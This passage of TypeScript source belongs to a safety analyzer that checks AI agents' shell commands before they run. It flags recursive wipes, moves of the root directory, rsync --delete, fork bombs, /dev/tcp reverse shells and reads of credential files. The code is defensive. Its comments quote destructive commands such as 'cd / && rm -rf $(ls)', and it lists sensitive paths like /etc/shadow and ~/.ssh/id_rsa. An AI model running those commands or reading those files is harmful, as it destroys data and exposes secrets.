  for (let i = 0; i < texts.length; i++) {
    const t = texts[i]!;
    if (name === 'curl' && (t === '-O' || t === '--remote-name')) return remoteName();
    const m = short.exec(t) ?? long.exec(t);
    if (m === null || t.startsWith('--') !== long.test(t)) continue;
    const inline = m.length === 3 ? m[2] : m[1];
    const target = inline === undefined || inline === '' ? texts[i + 1] : inline;
    return target === '-' ? undefined : target;
  }
  return name === 'wget' ? remoteName() : undefined;
}

// ------------------------------------------------------------------------------ file system

function isBlockDevice(path: string): boolean {
  return /^\/dev\/(sd|hd|vd|xvd|nvme|mmcblk|disk|mapper\/|md\d|dm-|loop|sr|fd\d|rdisk)/.test(path);
}

function isRecursiveFlag(text: string): boolean {
  // GNU tools take any unambiguous prefix of a long option: `--rec` is `--recursive`.
  return (
    (text.length >= 5 && '--recursive'.startsWith(text)) || (/^-[A-Za-z]+$/.test(text) && /[rR]/.test(text))
  );
}

function wipeTarget(word: Field, ctx: ShellContext): boolean {
  const target = word.text.trim();
  if (target === '') return false;
  if (target === '~' || target === '~/' || (target.startsWith('~') && !target.includes('/', 1))) return true;
  // A glob removes what the directory before it holds: `/*`, `~/.*`, `*` in the working tree.
  const normalized = followLinks(normalizePath(target, ctx.cwd), ctx);
  const parts = normalized.split('/');
  const glob = parts.findIndex((part) => /[*?[]/.test(part));
  const removed = glob < 0 ? normalized : parts.slice(0, glob).join('/') || '/';
  // A relative path lands in the working directory, which is itself a wipe target, as is every parent.
  return (
    isCatastrophicDeleteTarget(removed, ctx.paths) ||
    (ctx.configured !== ctx.paths && isCatastrophicDeleteTarget(removed, ctx.configured))
  );
}

/** A path through a link made earlier in the command line names what the link points to. */
function followLinks(normalized: string, ctx: ShellContext): string {
  if (ctx.links.size === 0) return normalized;
  for (const [link, target] of ctx.links) {
    if (normalized === link || normalized.startsWith(`${link}/`))
      return `${target}${normalized.slice(link.length)}`;
  }
  return normalized;
}

/** Privileged paths a glob is tried against: `cat /e?c/shadow` and `cat /e[t]c/shadow` read /etc/shadow. */
const GLOB_PROBES = [
  '/etc/shadow',
  '/etc/passwd',
  '/etc/sudoers',
  '/etc/ssh/sshd_config',
  '/root/.ssh/id_rsa',
  '/proc/1/environ',
  '/var/run/docker.sock',
  '/run/docker.sock',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/boot/vmlinuz',
  '/sys/kernel',
];

function globMatchesPrivileged(normalized: string, ctx: ShellContext): string | undefined {
  const home = ctx.paths.home;
  const probes = [
    ...GLOB_PROBES,
    `${home}/.ssh/id_rsa`,
    `${home}/.aws/credentials`,
    `${home}/.kube/config`,
    `${home}/.docker/config.json`,
  ];
  // A path that ends in wildcards alone (`/*`, `build/*`, s3 paths `'/*'`) says nothing about
  // which file is meant; wildcards before a named file do (`cat /*/shadow` reads /etc/shadow).
  const segments = normalized.split('/');
  const last = segments.findLast((part) => part !== '');
  if (last === undefined || /^[*?]+$/.test(last)) return undefined;
  const source = segments
    // `**`, `?*?*`: one run of wildcards is its `?`s then at most one `*`, the same set of names,
    // so the pattern below never holds two unbounded repeats side by side (no backtracking blow-up).
    .map((part) =>
      part.replace(/[*?]{2,}/g, (run) =>
        run.includes('*') ? `${'?'.repeat(run.split('?').length - 1)}*` : run,
      ),
    )
    .map(
      (part) =>
        // A wildcard that opens a name does not match a leading dot (bash without dotglob).
        (/^[*?[]/.test(part) ? '(?!\\.)' : '') +
        part
          .replace(/[.+^${}()|\\]/g, '\\$&')
          // `[!…]` is the glob's negated class; `[…]` reads the same in both.
          .replace(/\[!/g, '[^')
          .replace(/\*/g, '[^/]*')
          .replace(/\?/g, '[^/]'),
    )
    .join('/');
  let pattern: RegExp;
  try {
    pattern = new RegExp(`^${source}$`);
  } catch {
    return undefined;
  }
  return probes.find((probe) => pattern.test(probe));
}

function judgeRm(name: string, args: Field[], walk: Walk): void {
  // rmdir removes only empty directories, but `rmdir -p` and rimraf take a whole tree.
  let recursive = name !== 'rm';
  const targets: Field[] = [];
  let options = true;
  for (const arg of args) {
    if (options && arg.text === '--') options = false;
    else if (options && arg.text.startsWith('-') && arg.text.length > 1)
      recursive ||= isRecursiveFlag(arg.text);
    else targets.push(arg);
  }
  if (!recursive && name === 'rm') return;
  // `cd / && rm -rf $(ls)`: names computed at run time, relative to a directory that must not be
  // emptied (a root, a home, a system directory; not the working tree, whose files agents clean).
  const cwd = walk.ctx.cwd.workspace;
  const unsafeCwd = cwd !== walk.ctx.paths.workspace && isCatastrophicDeleteTarget(cwd, walk.ctx.paths);
  for (const target of targets) {
    if (unsafeCwd && target.dynamic && !/^[/~]/.test(target.text)) {
      destructive(
        walk,
        `recursive ${name} of names computed at run time in ${describeTarget(cwd)}`,
        `command "${name}"`,
      );
      return;
    }
    if (wipeTarget(target, walk.ctx)) {
      destructive(walk, `recursive ${name} of ${describeTarget(target.text)}`, `command "${name}"`);
      return;
    }
    if (/(?:^|\/)\.git\/?$/.test(target.text) && name === 'rm') {
      destructive(
        walk,
        `recursive rm of a repository's history (${describeTarget(target.text)})`,
        'command "rm"',
      );
      return;
    }
  }
}

/** `mv / …`, `mv ~ /dev/null`: moving the root, a home or a system directory away. */
function judgeMove(args: Field[], walk: Walk): void {
  const operands = args.filter((a) => !a.text.startsWith('-'));
  for (const source of operands.slice(0, -1)) {
    const normalized = normalizePath(source.text, walk.ctx.cwd);
    const parts = normalized.split('/').filter((p) => p !== '');
    if (
      source.text.trim() !== '' &&
      parts.length <= 2 &&
      isCatastrophicDeleteTarget(normalized, walk.ctx.paths)
    ) {
      destructive(walk, `mv takes ${describeTarget(normalized)} away`, 'command "mv"');
      return;
    }
  }
}

/** `rsync --delete empty/ /`: mirrors nothing onto a root, deleting everything there. */
function judgeRsyncDelete(args: Field[], walk: Walk): void {
  if (!args.some((a) => a.text.startsWith('--delete') || a.text === '--remove-source-files')) return;
  const operands = args.filter((a) => !a.text.startsWith('-'));
  const destination = operands[operands.length - 1];
  if (!destination || operands.length < 2 || /^[^/]*:/.test(destination.text)) return;
  if (wipeTarget(destination, walk.ctx)) {
    destructive(walk, `rsync --delete empties ${describeTarget(destination.text)}`, 'command "rsync"');
  }
}

const FIND_NARROWING = new Set([
  '-name',
  '-iname',
  '-path',
  '-ipath',
  '-wholename',
  '-iwholename',
  '-regex',
  '-iregex',
  '-newer',
  '-mtime',
  '-mmin',
  '-atime',
  '-amin',
  '-ctime',
  '-cmin',
  '-size',
  '-user',
  '-group',
  '-perm',
  '-empty',
  '-inum',
  '-links',
  '-samefile',
  '-uid',
  '-gid',
  '-lname',
  '-ilname',
  '-newermt',
]);

function judgeFind(args: Field[], walk: Walk): Stream {
  const roots: Field[] = [];
  let i = 0;
  while (i < args.length && /^-[HLP]$/.test(args[i]!.text)) i++;
  while (
    i < args.length &&
    !args[i]!.text.startsWith('-') &&
    args[i]!.text !== '(' &&
    args[i]!.text !== '!'
  ) {
    roots.push(args[i]!);
    i++;
  }
  const rest = args.slice(i);
  const texts = rest.map((w) => w.text);
  // `-name '*'` matches everything: it narrows nothing.
  const narrowed = texts.some((t, k) => FIND_NARROWING.has(t) && !/^\*+$/.test(texts[k + 1] ?? ''));
  const effectiveRoots = roots.length === 0 ? [{ text: '.', dynamic: false }] : roots;
  const wipesRoot = effectiveRoots.some((root) => wipeTarget(root, walk.ctx));
  const execDeletes = texts.some(
    (t, k) =>
      /^-(?:exec|execdir|ok|okdir)$/.test(t) && /^(?:rm|shred|unlink)$/.test(baseName(texts[k + 1] ?? '')),
  );
  if ((texts.includes('-delete') || execDeletes) && !narrowed && wipesRoot) {
    destructive(walk, 'find deletes everything under a root, home or system directory', 'command "find"');
  }
  // `find / -exec chown x {} +` changes every file under the root, as `chown -R x /` does.
  const execOwns = texts.some(
    (t, k) =>
      /^-(?:exec|execdir|ok|okdir)$/.test(t) && /^(?:chown|chmod|chgrp)$/.test(baseName(texts[k + 1] ?? '')),
  );
  if (execOwns && !narrowed && wipesRoot) {
    destructive(
      walk,
      'find changes the owner or mode of everything under a root, home or system directory',
      'command "find"',
    );
  }
  // -exec / -execdir / -ok / -okdir run a command per match: judge it with the roots as matches.
  for (let k = 0; k < texts.length; k++) {
    if (!/^-(?:exec|execdir|ok|okdir)$/.test(texts[k]!)) continue;
    let end = k + 1;
    while (end < texts.length && texts[end] !== ';' && texts[end] !== '+') end++;
    const command = rest.slice(k + 1, end);
    const inner = child(walk);
    if (!inner || command.length === 0) continue;
    // `-name .git` with a literal name: what matches is that name under the roots.
    const named = texts.flatMap((t, n) => (/^-i?name$/.test(t) ? [texts[n + 1] ?? ''] : []));
    const literal =
      named.length === 1 && !texts.includes('-o') && /^[^*?[\]/]+$/.test(named[0]!) ? named[0] : undefined;
    const matches = !narrowed
      ? effectiveRoots
      : literal !== undefined
        ? effectiveRoots.map((root) => ({ ...root, text: `${root.text.replace(/\/+$/, '')}/${literal}` }))
        : [{ text: 'matched-file', dynamic: false }];
    for (const match of matches.slice(0, MAX_ITEMS)) {
      judgeCommand(
        command.map((a) =>
          a.text.includes('{}') ? { ...a, text: a.text.split('{}').join(match.text), via: 'find -exec' } : a,
        ),
        inner,
      );
    }
    k = end;
  }
  return { found: { roots: effectiveRoots, narrowed } };
}

function judgeRecursiveOwnership(name: string, args: Field[], walk: Walk): void {
  if (
    !args.some((a) => isRecursiveFlag(a.text) && !/[^-rRvfchHLP]/.test(a.text.replace('--recursive', '-R')))
  )
    return;
  const operands = args.filter((a) => !a.text.startsWith('-'));
  for (const target of operands.slice(1)) {
    const text = target.text.replace(/\/\*$/, '/');
    if (!text.startsWith('/')) continue;
    const normalized = normalizePath(text, walk.ctx.cwd);
    const parts = normalized.split('/').filter((p) => p !== '');
    if (
      parts.length === 0 ||
      (parts.length === 1 && isCatastrophicDeleteTarget(normalized, walk.ctx.paths))
    ) {
      destructive(walk, `recursive ${name} of ${describeTarget(normalized)}`, `command "${name}"`);
      return;
    }
  }
}

function judgeRedirect(kind: 'out' | 'in', target: string, walk: Walk): void {
  if (kind === 'out' && isBlockDevice(target)) {
    destructive(walk, 'redirection overwrites a block device', `path ${describeTarget(target)}`);
    return;
  }
  const tcp = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(target);
  if (tcp) {
    const host = tcp[2]!;
    if (!isTrustedHost(host, walk.ctx.egress))
      reverseShell(walk, `a raw ${tcp[1]} connection to ${describeTarget(host)}`);
    walk.findings.push(...analyzeHost(host, walk.ctx.egress));
    return;
  }
  judgePath(target, walk, kind === 'out');
}

function judgePath(text: string, walk: Walk, writes: boolean): void {
  if (text === '' || text.length > 4096) return;
  // `/dev/tcp/host/port` is a socket, judged as a destination where it is redirected to.
  if (/^\/dev\/(?:tcp|udp)\//.test(text)) return;
  // Bare words stay inside the working directory, whose own path is judged once up front.
  if (
    !/^[~/.]|^\$\{?HOME|\/|\\|\.ssh|^[A-Za-z]:|^%|[／＼]/.test(text) &&
    walk.ctx.cwd.workspace === walk.ctx.paths.workspace
  )
    return;
  let normalized = followLinks(normalizePath(text, walk.ctx.cwd), walk.ctx);
  if (/[*?[]/.test(normalized) && classifyPath(normalized, walk.ctx.paths) === null)
    normalized = globMatchesPrivileged(normalized, walk.ctx) ?? normalized;
  const cls = classifyPath(normalized, walk.ctx.paths) ?? credentialDirectory(normalized, walk.ctx.paths);
  // Commands that merely read system trees (/etc, /boot, /dev, /proc, /sys) are refused
  // like fs.read: an agent has no task there that a human should not look at first.
  if (cls !== null) {
    push(
      walk,
      'FILESYSTEM_DENIED',
      `${writes ? 'writes to' : 'touches'} ${describePathClass(cls)}`,
      `path ${describeTarget(normalized)}`,
    );
  }
}

/** A directory whose files are credentials (`~/.aws`, `~/.kube`): reading it reads them. */
function credentialDirectory(normalized: string, paths: PathContext): 'secret' | null {
  const dir = normalized.replace(/\/+$/, '');
  for (const file of ['credentials', 'config', 'config.json']) {
    if (classifyPath(`${dir}/${file}`, paths) === 'secret') return 'secret';
  }
  return null;
}

// Absolute or home paths embedded in a larger word: inline code of any interpreter
// (`lua -e 'io.open("/etc/x")'`), response files (`@/etc/x`), `VAR=/etc/x`.
const EMBEDDED_PATH = /(?:^|[\s"'(<=@:,])((?:~|\$HOME)?\/[^\s"'();<>|&,]{1,1024})/g;

function judgePathsInArgs(args: Field[], walk: Walk): void {
  for (const arg of args) {
    judgePathsInText(arg.text, walk);
    for (const file of arg.reads ?? []) judgePath(file, walk, false);
  }
}

function judgePathsInText(text: string, walk: Walk): void {
  if (text.length > PARSE_LIMIT) return;
  // `unix:///run/docker.sock`: a socket named as a URL is a path.
  const socket = /^unix:\/\/(\/.*)$/.exec(text);
  if (socket) judgePath(socket[1]!, walk, false);
  if (!text.includes('://')) judgePath(text.startsWith('@') ? text.slice(1) : text, walk, false);
  if (!text.includes('/', 1)) return;
  for (const match of text.matchAll(EMBEDDED_PATH)) {
    const candidate = match[1]!;
    if (candidate !== text && !text.includes(`://${candidate.slice(0, 1)}`))
      judgePath(candidate, walk, false);
  }
}

// ---------------------------------------------------------------- entry points

function analyzeScript(script: string, walk: Walk): void {
  if (script.trim() === '') return;
  const inner = child(walk);
  if (inner) parseAndWalk(script, inner);
}

/**
 * Scripts made only of words, plain quotes and `|`/`&`/`;` lists have one reading under
 * any shell grammar, so the linear splitter gives the same commands as the parser at a
 * fraction of the cost. Anything with expansions, redirections, grouping, escapes or
 * comments goes to mvdan/sh (or the simple reader, which resolves the same way).
 */
const TRIVIAL_SCRIPT = /^[^$`\\(){}<>#\n\r!]*$/;

/**
 * Whether a command of the list starts (after its assignments) with a word the parser reads as
 * syntax or a declaration: `export ~/.ssh/id_rsa` declares a (bad) name and touches no file,
 * where the splitter would read a path.
 */
function commandOpensWithKeyword(script: string): boolean {
  for (const command of script.split(/[|&;]+/)) {
    const words = command.trim().split(/\s+/);
    const first = words.find((w) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w));
    if (first !== undefined && STRUCTURAL.has(first)) return true;
  }
  return false;
}

function parseAndWalk(script: string, walk: Walk, fastPaths = true): void {
  if (
    fastPaths &&
    TRIVIAL_SCRIPT.test(script) &&
    !/"[^"]*'|'[^']*"/.test(script) &&
    !commandOpensWithKeyword(script)
  ) {
    walkSplit(script, walk);
    return;
  }
  if (
    script.length <= PARSE_LIMIT &&
    walk.budget.parsed + script.length <= PARSE_BUDGET &&
    backquotes(script) <= MAX_BACKQUOTES &&
    quotes(script) <= MAX_QUOTES
  ) {
    const simple = fastPaths ? readSimpleScript(script) : undefined;
    if (simple !== undefined) {
      walkSimple(simple, walk);
      return;
    }
    walk.budget.parsed += script.length;
    let file: ShNode | undefined;
    try {
      file = parser.Parse(script, '');
    } catch {
      file = undefined;
    }
    if (file) {
      runStmts(list(file['Stmts']), walk);
      return;
    }
  }
  walkSplit(script, walk, true);
  if (/:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&/.test(script)) destructive(walk, 'fork bomb', 'function ":"');
}

/** The parser walk's steps for a script the linear reader could take, in the same order. */
function walkSimple(statements: SimpleStatement[], walk: Walk): void {
  let output: Stream | undefined;
  for (const stmt of statements) {
    let stdin = stmt.piped ? output : undefined;
    let fromFile: Stream | undefined;
    let writes: { target: string; append: boolean }[] | undefined;
    for (const redirect of stmt.redirects) {
      const target =
        expandSimpleWord(
          { text: redirect.target, dynamic: false, parts: [{ lit: redirect.target }] },
          walk,
        )[0]?.text ?? '';
      judgeRedirect(redirect.kind, target, walk);
      // As in the parser walk: a /dev/tcp redirection is judged as a connection, not read as a file.
      if (redirect.kind === 'in' && !/^\/dev\/(?:tcp|udp)\//.test(target)) {
        fromFile = (/[$`]/.test(redirect.target)
          ? undefined
          : writtenFile({ text: target, dynamic: false }, walk)) ?? {
          files: [target],
        };
        stdin = fromFile;
      }
      if (redirect.stdout && !/^\/dev\/(?:tcp|udp)\//.test(target) && !/[$`]/.test(redirect.target)) {
        writes ??= [];
        writes.push({ target, append: redirect.append === true });
      }
    }
    const fields: Field[] = [];
    for (const word of stmt.words) fields.push(...expandSimpleWord(word, walk));
    for (const a of stmt.assigns) {
      const value = valueOfFields(expandSimpleWord(a.value, walk, false));
      judgePathsInText(value.text, walk);
      assign(walk, a.name, value);
    }
    // As in the parser walk, a statement that is only an input redirection gives the file.
    output =
      stmt.words.length > 0 ? judgeCommand(fields, walk, stdin) : writes === undefined ? fromFile : undefined;
    if (writes !== undefined) {
      for (const write of writes) remember(walk, write.target, output, write.append);
      output = undefined;
    }
  }
}

const RESERVED_WORDS = new Set([
  '!',
  'coproc',
  'if',
  'then',
  'else',
  'elif',
  'fi',
  'do',
  'done',
  'while',
  'until',
  '{',
  '}',
]);

/**
 * The linear reading: no expansion is resolved, so a word that still holds one in command
 * position is opaque when `unresolved` (the script was too large for the parser).
 */
function walkSplit(script: string, walk: Walk, unresolved = false): void {
  let output: Stream | undefined;
  // Nothing is resolved here, so the same text judges the same: each distinct command once.
  const seen = new Set<string>();
  for (const { raw, pipedIn, substitution } of splitCommands(script)) {
    // Past the parser, a substitution's output is unknown: as the command's name, or as an
    // argument of a program that acts on what its arguments name, it is opaque.
    if (unresolved && substitution !== undefined && substitutionIsOpaque(raw, substitution.attached)) {
      opaque(walk, `${describeSubstituted(raw)}, in a script the parser could not take`);
    }
    if (raw === '') continue;
    const key = pipedIn ? `|${raw}` : raw;
    // A filter's output depends on its input: `base64 -d | base64 -d` decodes twice.
    const fresh = pipedIn && output?.literal !== undefined;
    if (!fresh && seen.has(key)) {
      if (!pipedIn) output = undefined;
      continue;
    }
    if (seen.size < 100_000) seen.add(key);
    const words = tokenize(raw);
    const stdin = pipedIn ? output : undefined;
    let start = 0;
    while (start < words.length) {
      const text = words[start]!.text;
      if (RESERVED_WORDS.has(text)) start++;
      else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(text)) {
        const value = text.slice(text.indexOf('=') + 1);
        judgePathsInText(value, walk);
        assign(walk, text.slice(0, text.indexOf('=')), {
          text: value,
          known: !words[start]!.dynamic && !unresolved,
        });
        start++;
      } else break;
    }
    const fields: Field[] = words.slice(start).map((w) => ({ text: w.text, dynamic: w.dynamic }));
    if (unresolved && fields[0]?.text.includes('$'))
      fields[0] = {
        ...fields[0],
        dynamic: true,
        codeLike: true,
        opaque: `${fields[0].text}, an expansion the parser could not read`,
      };
    output = fields.length > 0 ? judgeCommand(fields, walk, stdin) : undefined;
  }
}

/** Programs whose arguments name what they act on: an unknown argument may name anything. */
const ACTS_ON_ARGUMENTS =
  /^(?:rm|rmdir|unlink|shred|wipe|srm|dd|mkfs(?:\.\w+)?|mkswap|wipefs|chmod|chown|chgrp|chattr|mv|cp|ln|install|truncate|find|xargs|kill|pkill|killall|curl|wget|nc|ncat|netcat|socat|scp|sftp|rsync|ssh|sh|bash|zsh|dash|ksh|eval|exec|source|\.|python\d*(?:\.\d+)?|perl|ruby|node|php|psql|mysql|sqlite3|redis-cli|mongosh|kubectl|helm|terraform|docker|podman|aws|gcloud|az|gsutil|git|crontab|systemctl|iptables)$/;
const WRAPPER_WORDS =
  /^(?:sudo|doas|env|nice|nohup|timeout|command|builtin|stdbuf|setsid|time|-\S*|\d+[smhd]?)$/;

/** Whether a command cut at a substitution gets a word the analysis must know to judge it. */
function substitutionIsOpaque(raw: string, attached: boolean): boolean {
  const words = tokenize(raw).map((w) => w.text);
  let k = 0;
  while (k < words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[k]!)) k++;
  // `X=$(…)`: a value for a variable, unknown from here on (the reader marks it so).
  if (k === words.length) return !(attached && k > 0);
  while (k < words.length - 1 && WRAPPER_WORDS.test(words[k]!)) k++;
  const name = baseName(words[k] ?? '');
  return ACTS_ON_ARGUMENTS.test(name);
}

function describeSubstituted(raw: string): string {
  const shown = raw.length > 60 ? `${raw.slice(0, 57)}...` : raw;
  return raw === ''
    ? 'a command substitution names the command'
    : `"${shown} $(…)" takes a word from a command substitution`;
}

const QUOTE_SINGLE = 39;
const QUOTE_DOUBLE = 34;
const BACKSLASH = 92;
const HASH = 35;
const DOLLAR = 36;
const PIPE = 124;

/**
 * Quote-aware split into simple commands at `;`, `&`, `|`, newlines, parentheses, back-ticks and
 * `$(`: the fallback for scripts the parser rejects or that are too large for it. It slices the
 * script and allocates nothing per character, so a megabyte costs a few milliseconds.
 */
interface SplitCommand {
  raw: string;
  pipedIn: boolean;
  /**
   * The command was cut where a command substitution opens (`$(`, an opening back-tick): its
   * output is a word of this command. `attached`: it continues the last word (`X=$(…)`,
   * `--file=$(…)`); otherwise it is a word of its own, the command's name when nothing precedes it.
   */
  substitution?: { attached: boolean };
}

function splitCommands(script: string): SplitCommand[] {
  const commands: SplitCommand[] = [];
  let start = 0;
  let pipedIn = false;
  let wordStart = true;
  let inBackquote = false;
  // One helper object, not a closure per call: the loader names closures at a cost.
  const at = {
    end(stop: number, skip: number, pipe: boolean, opens = false) {
      const raw = script.slice(start, stop).trim();
      const substitution = opens ? { attached: stop > start && !/\s/.test(script[stop - 1]!) } : undefined;
      if (raw !== '' || substitution !== undefined)
        commands.push(substitution ? { raw, pipedIn, substitution } : { raw, pipedIn });
      if (raw !== '' || !pipe) pipedIn = pipe;
      start = stop + skip;
      wordStart = true;
    },
  };
  for (let i = 0; i < script.length; i++) {
    const c = script.charCodeAt(i);
    if (c === QUOTE_SINGLE || c === QUOTE_DOUBLE) {
      const close = script.indexOf(c === QUOTE_SINGLE ? "'" : '"', i + 1);
      i = close < 0 ? script.length : close;
      wordStart = false;
    } else if (c === BACKSLASH) {
      i++;
      wordStart = false;
    } else if (c === HASH && wordStart) {
      const newline = script.indexOf('\n', i);
      const stop = newline < 0 ? script.length : newline;
      at.end(i, stop - i, false);
      i = stop - 1;
    } else if (c === 32 || c === 9) {
      wordStart = true;
    } else if (c === PIPE && script.charCodeAt(i + 1) !== PIPE && script.charCodeAt(i - 1) !== PIPE) {
      at.end(i, 1, true);
    } else if (c === 96) {
      at.end(i, 1, false, !inBackquote);
      inBackquote = !inBackquote;
    } else if (c === 59 || c === 38 || c === PIPE || c === 10 || c === 40 || c === 41) {
      at.end(i, 1, false);
    } else if (c === DOLLAR && script.charCodeAt(i + 1) === 40) {
      at.end(i, 2, false, script.charCodeAt(i + 2) !== 40);
      i++;
    } else {
      wordStart = false;
    }
  }
  at.end(script.length, 0, false);
  return commands;
}

/** The words of one simple command from splitCommands: quotes removed, `$` marks unknowns. */
function tokenize(raw: string): { text: string; dynamic: boolean }[] {
  const words: { text: string; dynamic: boolean }[] = [];
  let word = '';
  let inWord = false;
  let dynamic = false;
  for (let i = 0; i < raw.length; i++) {
    const ch = raw[i]!;
    if (ch === "'" || ch === '"') {
      const close = raw.indexOf(ch, i + 1);
      const stop = close < 0 ? raw.length : close;
      word += raw.slice(i + 1, stop);
      inWord = true;
      i = stop;
    } else if (ch === '\\' && i + 1 < raw.length) {
      word += raw[i + 1];
      inWord = true;
      i++;
    } else if (ch === ' ' || ch === '\t' || ch === '\r') {
      if (inWord) words.push({ text: word, dynamic });
      word = '';
      inWord = false;
      dynamic = false;
    } else {
      if (ch === '$') dynamic = true;
      word += ch;
      inWord = true;
    }
  }
  if (inWord) words.push({ text: word, dynamic });
  return words;
}

/** The linear reading of a script: its simple commands and their words. */
export function splitWords(
  script: string,
): { words: { text: string; dynamic: boolean }[]; pipedIn: boolean }[] {
  return splitCommands(script)
    .filter(({ raw }) => raw !== '')
    .map(({ raw, pipedIn }) => ({ words: tokenize(raw), pipedIn }));
}

type ShellOptions = {
  egress?: EgressSettings;
  paths?: PathContext;
  catalogue?: CatalogueContext;
  execution?: ExecutionSettings;
  cwd?: string;
  /** Environment the command runs with (`shell.exec` payload `env`): its values are known. */
  env?: Record<string, string>;
  /** False sends the top-level script to mvdan/sh even when a linear reader could take it. */
  fastPaths?: boolean;
};

/**
 * Analyses remembered per account policy (its egress, catalogue and execution objects, which
 * stay the same while the policy is cached) for the 1,000 most recent commands of at most 4 KiB:
 * agents repeat the same commands, and the result depends on nothing else when no cwd or env
 * is given.
 */
const remembered = new WeakMap<
  EgressSettings,
  WeakMap<CatalogueContext, WeakMap<ExecutionSettings, (command: string) => ShellReading>>
>();

function rememberedFor(
  egress: EgressSettings,
  catalogue: CatalogueContext,
  execution: ExecutionSettings,
): (command: string) => ShellReading {
  let byCatalogue = remembered.get(egress);
  if (byCatalogue === undefined) {
    byCatalogue = new WeakMap();
    remembered.set(egress, byCatalogue);
  }
  let byExecution = byCatalogue.get(catalogue);
  if (byExecution === undefined) {
    byExecution = new WeakMap();
    byCatalogue.set(catalogue, byExecution);
  }
  let analyze = byExecution.get(execution);
  if (analyze === undefined) {
    analyze = memoizeText(
      (command) => {
        const reading = analyzeOnce(command, { egress, catalogue, execution });
        return Object.freeze({
          findings: Object.freeze(reading.findings.map((f) => Object.freeze(f))) as Finding[],
          steps: Object.freeze(reading.steps) as Step[],
        });
      },
      { capacity: 1000, maxLength: 4096 },
    );
    byExecution.set(execution, analyze);
  }
  return analyze;
}

/** What a shell.exec command line would do: its findings and the programs it runs, as effects. */
export interface ShellReading {
  findings: Finding[];
  steps: Step[];
}

/** Findings for a shell.exec command line. */
export function analyzeShell(command: string, options: ShellOptions = {}): Finding[] {
  return [...readShell(command, options).findings];
}

/** Findings and steps for a shell.exec command line (both read-only when remembered). */
export function readShell(command: string, options: ShellOptions = {}): ShellReading {
  if (
    options.cwd === undefined &&
    options.env === undefined &&
    options.fastPaths !== false &&
    (options.paths === undefined || options.paths === DEFAULT_PATH_CONTEXT)
  ) {
    const analyze = rememberedFor(
      options.egress ?? DEFAULT_EGRESS_SETTINGS,
      options.catalogue ?? DEFAULT_CATALOGUE_CONTEXT,
      options.execution ?? DEFAULT_EXECUTION_SETTINGS,
    );
    return analyze(command);
  }
  return analyzeOnce(command, options);
}

function analyzeOnce(command: string, options: ShellOptions): ShellReading {
  const base = options.paths ?? DEFAULT_PATH_CONTEXT;
  const cwd = options.cwd ? { ...base, workspace: normalizePath(options.cwd, base) } : base;
  // A cwd inside the account's workspace runs in that working tree: wiping a sub-directory of it
  // is ordinary clean-up. A cwd elsewhere is a working tree of its own.
  const inside = cwd.workspace === base.workspace || cwd.workspace.startsWith(`${base.workspace}/`);
  const paths = inside ? base : cwd;
  // `$0` of a command line is the shell that runs it.
  const scope = newScope([{ text: 'sh', dynamic: false }]);
  for (const [name, value] of Object.entries(options.env ?? {})) {
    if (typeof value === 'string') {
      scope.vars ??= new Map();
      scope.vars.set(name, { text: value.slice(0, MAX_DECODED), known: true });
    }
  }
  const egress = options.egress ?? DEFAULT_EGRESS_SETTINGS;
  const walk: Walk = {
    ctx: {
      egress,
      paths,
      cwd,
      configured: base,
      links: new Map(),
      staged: [],
      catalogue: {
        ...(options.catalogue ?? DEFAULT_CATALOGUE_CONTEXT),
        webRequest: (request) => judgeWebRequest(request, egress, paths),
      },
      execution: options.execution ?? DEFAULT_EXECUTION_SETTINGS,
      written: new Map(),
    },
    findings: [],
    steps: [],
    depth: 0,
    scope,
    budget: { commands: 0, parsed: 0, exhausted: false },
  };
  if (options.cwd) judgePath(options.cwd, walk, false);
  for (const value of Object.values(options.env ?? {}))
    if (typeof value === 'string') judgePathsInText(value, walk);
  parseAndWalk(command, walk, options.fastPaths ?? true);
  judgePowerShellLine(command, walk);
  return { findings: walk.findings, steps: walk.steps };
}

/**
 * A request a PowerShell web cmdlet would send, judged as curl's would be: the destination, and a
 * file or literal body it uploads (`Invoke-RestMethod -Uri u -Method Post -InFile .env`).
 */
function judgeWebRequest(request: WebRequest, egress: EgressSettings, paths: PathContext): Finding[] {
  const words: ToolWord[] = [
    '-X',
    request.method,
    ...(request.file !== undefined ? ['-T', request.file] : []),
    ...(request.body !== undefined ? ['--data', request.body] : []),
    request.url,
  ].map((text) => ({ text, dynamic: false }));
  return judgeNetworkCommand('curl', words, undefined, { egress, paths }).map((finding) => ({
    ...finding,
    message: finding.message.replace(/^curl\b/, request.cmdlet),
    ...(finding.location ? { location: finding.location.replace(/"curl"/, `"${request.cmdlet}"`) } : {}),
  }));
}

/**
 * A PowerShell line is read whole by the catalogue's PowerShell reader too: the POSIX reading
 * splits `Get-ChildItem C:\ | Remove-Item -Recurse` into stages that are harmless alone, and
 * drops the parentheses of `{ $_.Delete() }`.
 */
function judgePowerShellLine(command: string, walk: Walk): void {
  if (command.length > PARSE_LIMIT || windowsGrammar(command) !== 'powershell') return;
  for (const finding of judgeWindowsCommandLine(command, walk.ctx.catalogue) ?? []) {
    if (finding.location === 'opaque code' && walk.ctx.execution.allow_opaque) continue;
    if (walk.findings.some((f) => f.code === finding.code && f.message === finding.message)) continue;
    walk.findings.push(finding);
  }
}
